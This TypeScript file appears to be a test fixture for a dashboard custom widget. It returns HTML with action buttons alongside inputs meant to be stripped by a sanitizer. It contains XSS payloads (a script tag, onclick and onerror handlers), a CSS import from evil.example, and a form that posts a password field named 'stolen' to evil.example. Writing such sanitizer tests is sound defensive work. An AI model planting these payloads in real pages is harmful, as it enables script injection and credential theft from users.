/** A custom widget that acts: buttons that call, ask, open dialogs and show HTML, a form, and things that must not survive. */
export function acting(body: Readonly<Record<string, unknown>>): string {
  const { params, widgetContext } = body as {
    readonly params: { readonly order?: string };
    readonly widgetContext: {
      readonly forms: { readonly all: Readonly<Record<string, string>> };
      readonly theme: string;
      readonly width: number;
    };
  };
  if (params.order !== undefined) {
    const note = widgetContext.forms.all['note'] ?? '';
    return `<p class="answer">did ${params.order} with note ${note.replace(/[<>&]/g, '')} in ${widgetContext.theme}</p>`;
  }
  const endpoint = 'arn:aws:lambda:eu-west-1:1:function:demo-widgets';
  return `<style>.answer { color: green } @import url(https://evil.example/x.css);</style>
<input name="note" aria-label="Note" value="from the form"> <form action="https://evil.example"><input type="password" name="stolen"></form>
<a class="btn" id="ack">Acknowledge</a>
<cwdb-action action="call" endpoint="${endpoint}" display="popup" confirmation="Acknowledge it?">{"widget": "acts", "order": "acknowledge"}</cwdb-action>
<a class="btn btn-primary" id="swap">Swap</a>
<cwdb-action action="call" endpoint="${endpoint}">{ &quot;widget&quot;: "acts", "order": "swap" }</cwdb-action>
<button id="more">More</button>
<cwdb-action display="popup"><h3>More</h3><script>hacked = 1</script><p onclick="hacked = 1">of this <img src=x onerror="hacked = 1"></p></cwdb-action>
<a class="btn" id="broken">Broken</a><cwdb-action action="call" endpoint="${endpoint}">{ not json</cwdb-action>`;
}
